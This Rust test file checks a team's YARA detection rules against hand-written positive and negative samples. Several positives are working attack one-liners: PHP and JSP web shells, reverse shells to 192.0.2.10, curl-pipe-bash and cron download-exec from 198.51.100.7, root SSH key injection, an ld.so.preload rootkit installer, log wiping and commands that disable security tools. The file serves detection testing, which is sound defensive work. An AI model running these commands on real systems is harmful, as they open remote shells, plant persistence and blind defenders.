//! Every rule of the team pack (`content/yara`) against a positive sample that does what the
//! rule describes and a negative look-alike that does not. The samples are written here,
//! from what the threats do; none is real malware. A rule without samples fails
//! `every_team_rule_has_samples`.

use std::collections::BTreeSet;

use rand::rngs::SmallRng;
use rand::{RngCore, SeedableRng};
use vigil_scan::{Limits, Severity};

use crate::common::{eicar, elf, team_engine};

struct Case {
    rule: &'static str,
    positive: Vec<u8>,
    negative: Vec<u8>,
}

fn case(rule: &'static str, positive: impl Into<Vec<u8>>, negative: impl Into<Vec<u8>>) -> Case {
    Case {
        rule,
        positive: positive.into(),
        negative: negative.into(),
    }
}

fn monero_address() -> String {
    const B58: &[u8] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
    let mut s = String::from("4A");
    s.extend((0..93).map(|i| B58[(i * 7 + 3) % B58.len()] as char));
    s
}

fn random_bytes(len: usize) -> Vec<u8> {
    let mut v = vec![0u8; len];
    SmallRng::seed_from_u64(42).fill_bytes(&mut v);
    v
}

fn cases() -> Vec<Case> {
    let mut quoted_eicar = b"The EICAR test string is ".to_vec();
    quoted_eicar.extend_from_slice(&eicar());
    let wallet = monero_address();
    let upx_stub = b"\x00$Info: This file is packed with the UPX executable packer http://upx.sf.net $\x00PROT_EXEC|PROT_WRITE failed.\n\x00";
    let mut upx_intact = b"\x00\x00\x00\x00UPX!\x0d\x16".to_vec();
    upx_intact.extend_from_slice(upx_stub);
    let mut prose = Vec::new();
    while prose.len() < 64 << 10 {
        prose.extend_from_slice(b"plain english words repeat in a low entropy body of text. ");
    }
    vec![
        case("Vigil_EICAR_Test_File", eicar(), quoted_eicar),
        // Web shells.
        case(
            "Vigil_Webshell_PHP_Eval_Request",
            "<?php @eval($_POST['cmd']); ?>",
            "<?php echo htmlspecialchars($_GET['q'], ENT_QUOTES); ?>",
        ),
        case(
            "Vigil_Webshell_PHP_Obfuscated_Eval",
            "<?php eval(gzinflate(base64_decode('S0lNzsgvyknRBAA='))); ?>",
            "<?php $png = base64_decode($row['thumb']); file_put_contents('t.png', $png); ?>",
        ),
        case(
            "Vigil_Webshell_PHP_Dynamic_Call_Request",
            "<?php $_GET['f']($_POST['a']); ?>",
            "<?php $page = $_GET['page']; include 'pages/' . basename($page) . '.php'; ?>",
        ),
        case(
            "Vigil_Webshell_JSP_Exec_Request",
            r#"<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>"#,
            r#"<% String name = request.getParameter("name"); out.println("Hello " + name); %>"#,
        ),
        case(
            "Vigil_Webshell_JSP_Classloader_Request",
            r#"<% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("p"));
               Class c = new java.lang.ClassLoader(){}.defineClass(b, 0, b.length); %>"#,
            r#"<% byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("avatar"));
               session.setAttribute("avatar", b); %>"#,
        ),
        // Reverse shells.
        case(
            "Vigil_RevShell_Bash_DevTcp",
            "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.10/4444 0>&1\n",
            "#!/bin/bash\nif timeout 1 bash -c '</dev/tcp/127.0.0.1/22'; then echo ssh is up; fi\n",
        ),
        case("Vigil_RevShell_Netcat_Exec", "nc 192.0.2.10 4444 -e /bin/bash\n", "nc -zv 192.0.2.10 22\n"),
        case(
            "Vigil_RevShell_Mkfifo_Pipe",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.10 4444 >/tmp/f\n",
            "mkfifo /run/app.pipe\ntail -f /var/log/app.log > /run/app.pipe &\n",
        ),
        case(
            "Vigil_RevShell_Python_Socket",
            "import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"192.0.2.10\",4444))\n\
             os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\npty.spawn(\"/bin/bash\")\n",
            "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"example.org\",80))\n\
             s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\nprint(s.recv(1024))\n",
        ),
        case(
            "Vigil_RevShell_Perl_Socket",
            r#"perl -e 'use Socket;$i="192.0.2.10";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'"#,
            r#"use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "example.org:80"); print $s "GET / HTTP/1.0\r\n\r\n"; open(STDOUT, ">&", $log);"#,
        ),
        case(
            "Vigil_RevShell_Socat_Exec",
            "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.10:4444\n",
            "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80\n",
        ),
        case(
            "Vigil_RevShell_PHP_Fsockopen",
            r#"php -r '$sock=fsockopen("192.0.2.10",4444);exec("/bin/sh -i <&3 >&3 2>&3");'"#,
            r#"<?php $fp = fsockopen("www.example.org", 80); fwrite($fp, "GET / HTTP/1.0\r\n\r\n"); exec("/usr/bin/logger fetched"); ?>"#,
        ),
        // Miners.
        case(
            "Vigil_Miner_Stratum_Pool_URL",
            r#"{"url": "stratum+tcp://pool.example.net:3333"}"#,
            "the stratum 1 clocks of the network feed tcp://ntp.example.net:123",
        ),
        case(
            "Vigil_Miner_XMRig_Config",
            r#"{"autosave": true, "donate-level": 1, "cpu": {"enabled": true},
               "pools": [{"url": "pool.example.net:443", "user": "WALLET", "algo": "rx/0", "tls": true}]}"#,
            r#"{"log-level": 1, "pools": [{"host": "db1.example.net", "user": "app", "size": 10}]}"#,
        ),
        case(
            "Vigil_Miner_Command_Line",
            format!("nohup ./kswapd0 -o pool.example.net:443 -u {wallet} --donate-level=1 --cpu-priority 5 &\n"),
            "./server --log-level=1 -o /var/log/out.txt --workers 4\n",
        ),
        case(
            "Vigil_Miner_Monero_Wallet_Pool",
            format!("POOL=pool.example.net:3333\nWALLET={wallet}\n"),
            format!("POOL=pool.example.net:3333\nWALLET={}\n", &wallet[..60]),
        ),
        // Packers.
        case("Vigil_ELF_UPX_Packed", elf(2, 0, &upx_intact), elf(2, 30, b"\x00.text\x00.data\x00readme: upx is a packer\x00")),
        case("Vigil_ELF_UPX_Scrubbed_Header", elf(2, 0, upx_stub), elf(2, 0, &upx_intact)),
        case("Vigil_ELF_High_Entropy_No_Sections", elf(2, 0, &random_bytes(64 << 10)), elf(2, 0, &prose)),
        // Rootkits.
        case(
            "Vigil_Rootkit_LDPreload_Library",
            elf(3, 25, b"\x00dlsym\x00readdir64\x00fopen\x00/etc/ld.so.preload\x00"),
            elf(3, 25, b"\x00dlsym\x00readdir64\x00fopen\x00/etc/ld.so.conf\x00"),
        ),
        case(
            "Vigil_Rootkit_Process_Hider_Library",
            elf(3, 25, b"\x00dlsym\x00readdir\x00/proc/self/fd/%d\x00/proc/%s/stat\x00"),
            elf(3, 25, b"\x00opendir\x00/proc/self/fd/%d\x00/proc/%s/stat\x00"),
        ),
        case(
            "Vigil_Rootkit_Preload_Install_Script",
            "#!/bin/sh\ncp libsys.so /usr/lib/libsys.so\necho /usr/lib/libsys.so > /etc/ld.so.preload\n",
            "#!/bin/sh\nif [ -s /etc/ld.so.preload ]; then cat /etc/ld.so.preload; fi\n",
        ),
        case(
            "Vigil_Rootkit_Kernel_Module_Syscall_Hook",
            elf(1, 20, b"\x00vermagic=6.1.0 SMP mod_unload\x00kallsyms_lookup_name\x00sys_call_table\x00__x64_sys_getdents64\x00"),
            elf(1, 20, b"\x00vermagic=6.1.0 SMP mod_unload\x00kallsyms_lookup_name\x00__x64_sys_getdents64\x00"),
        ),
        // Defense evasion.
        case(
            "Vigil_DefEvasion_Disable_Security_Tools",
            "#!/bin/sh\nsetenforce 0\nsystemctl stop apparmor\nufw disable\n",
            "#!/bin/sh\nsystemctl restart nginx\nsystemctl stop apache2\n",
        ),
        case(
            "Vigil_DefEvasion_Remove_Cloud_Agents",
            "pkill -9 AliYunDun\nrm -rf /usr/local/aegis\nsystemctl stop aliyun-service\n",
            "cat /usr/local/aegis/version.txt\n",
        ),
        case(
            "Vigil_DefEvasion_Clear_Logs_History",
            "history -c\nunset HISTFILE\ncat /dev/null > /var/log/wtmp\n",
            "logrotate -f /etc/logrotate.conf\nhistory | tail -n 20\n",
        ),
        case(
            "Vigil_DefEvasion_Chattr_Lock_Persistence",
            "chattr +i /root/.ssh/authorized_keys\n",
            "chattr +i /srv/archive/2023.tar\n",
        ),
        // Fetch and execute.
        case(
            "Vigil_FetchExec_Download_Pipe_Shell",
            "#!/bin/sh\ncurl -fsSL http://198.51.100.7/x.sh | bash\n",
            "#!/bin/sh\ncurl -fsSL -o install.sh https://example.org/install.sh\nsha256sum -c install.sh.sha256\n",
        ),
        case(
            "Vigil_FetchExec_Download_Chmod_Temp",
            "wget http://198.51.100.7/kworker -O /tmp/.x/kworker\nchmod +x /tmp/.x/kworker\n/tmp/.x/kworker &\n",
            "wget -O /tmp/release.tar.gz https://example.org/r.tar.gz\ntar -xzf /tmp/release.tar.gz -C /opt\n",
        ),
        case(
            "Vigil_FetchExec_Base64_Pipe_Shell",
            "echo ZWNobyBoZWxsbwo= | base64 -d | bash\n",
            "echo aGVsbG8gd29ybGQK | base64 -d > /tmp/hello.txt\n",
        ),
        case(
            "Vigil_FetchExec_Python_Remote_Exec",
            "import urllib.request\nexec(urllib.request.urlopen('http://198.51.100.7/p.py').read())\n",
            "import urllib.request\ndata = urllib.request.urlopen(url).read()\nprint(len(data))\n",
        ),
        // Persistence.
        case(
            "Vigil_Persistence_Cron_Download_Exec",
            "*/5 * * * * curl -fsSL http://198.51.100.7/up.sh | sh\n",
            "0 3 * * * /usr/sbin/logrotate /etc/logrotate.conf\n",
        ),
        case(
            "Vigil_Persistence_Crontab_Injection",
            "(crontab -l 2>/dev/null; echo \"* * * * * /tmp/.x/run\") | crontab -\n",
            "(crontab -l; echo \"0 2 * * * /usr/local/bin/backup.sh\") | crontab -\n",
        ),
        case(
            "Vigil_Persistence_SSH_Key_Injection",
            "echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA0qmMYpLeOxJcGE5tgVZqxY0 op@box\" >> /root/.ssh/authorized_keys\n",
            "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''\ncat ~/.ssh/id_ed25519.pub\n",
        ),
        case(
            "Vigil_Persistence_Systemd_Temp_Exec",
            "[Unit]\nDescription=kernel worker\n[Service]\nExecStart=/dev/shm/.x/kworker\nRestart=always\n",
            "[Unit]\nDescription=web\n[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\nPrivateTmp=true\n",
        ),
    ]
}

fn matched_rules(data: &[u8]) -> BTreeSet<String> {
    let result = team_engine().scan_bytes("sample", data, &Limits::default());
    result.matches.iter().map(|m| m.rule.clone()).collect()
}

#[test]
fn every_team_rule_has_samples() {
    let with_samples: BTreeSet<&str> = cases().iter().map(|c| c.rule).collect();
    let team: BTreeSet<String> = team_engine()
        .rules()
        .into_iter()
        .map(|r| r.identifier)
        .collect();
    let missing: Vec<_> = team
        .iter()
        .filter(|r| !with_samples.contains(r.as_str()))
        .collect();
    assert!(
        missing.is_empty(),
        "team rules without samples: {missing:?}"
    );
    let stale: Vec<_> = with_samples
        .iter()
        .filter(|r| !team.contains(**r))
        .collect();
    assert!(
        stale.is_empty(),
        "samples for rules that do not exist: {stale:?}"
    );
    assert!(team.len() >= 25, "{} rules", team.len());
}

#[test]
fn positives_match_their_rule() {
    let mut failures = Vec::new();
    for c in cases() {
        let got = matched_rules(&c.positive);
        if !got.contains(c.rule) {
            failures.push(format!(
                "{}: positive not detected (matched {got:?})",
                c.rule
            ));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn negatives_do_not_match_their_rule() {
    let mut failures = Vec::new();
    for c in cases() {
        let got = matched_rules(&c.negative);
        if got.contains(c.rule) {
            failures.push(format!("{}: negative detected", c.rule));
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn every_team_rule_has_its_metadata() {
    for rule in team_engine().rules() {
        let id = &rule.identifier;
        assert!(
            id.starts_with("Vigil_"),
            "{id}: team rules are named Vigil_*"
        );
        assert!(
            rule.meta("description").is_some_and(|d| d.len() > 10),
            "{id}: description"
        );
        assert!(
            rule.meta("threat").is_some_and(|t| t.contains('/')),
            "{id}: threat Family/Kind"
        );
        let severity = rule.meta("severity").and_then(Severity::parse);
        assert!(severity.is_some(), "{id}: severity");
        let attack = rule.meta("attack").unwrap_or_default();
        let valid_attack = attack.len() >= 5
            && attack.starts_with('T')
            && attack[1..5].bytes().all(|b| b.is_ascii_digit())
            && (attack.len() == 5
                || (attack.len() == 9
                    && &attack[5..6] == "."
                    && attack[6..].bytes().all(|b| b.is_ascii_digit())));
        assert!(valid_attack, "{id}: attack technique {attack:?}");
        assert!(
            matches!(rule.meta("maturity"), Some("stable" | "test")),
            "{id}: maturity"
        );
        assert!(
            rule.namespace.starts_with("team/"),
            "{id}: namespace {}",
            rule.namespace
        );
    }
}

#[test]
fn team_rules_are_quiet_on_system_binaries() {
    // A smoke test for false positives: a few dozen real files of this machine.
    let mut scanner = team_engine().scanner();
    let mut hits = Vec::new();
    for dir in ["/usr/bin", "/etc"] {
        let Ok(entries) = std::fs::read_dir(dir) else {
            println!("skipped {dir}: not readable");
            continue;
        };
        for entry in entries.flatten().take(150) {
            let path = entry.path();
            if !path.is_file() {
                continue;
            }
            let result = scanner.scan_file(&path, &Limits::default());
            if result.verdict.is_malicious() {
                hits.push(format!("{}: {:?}", path.display(), result.matches));
            }
        }
    }
    assert!(hits.is_empty(), "{hits:#?}");
}
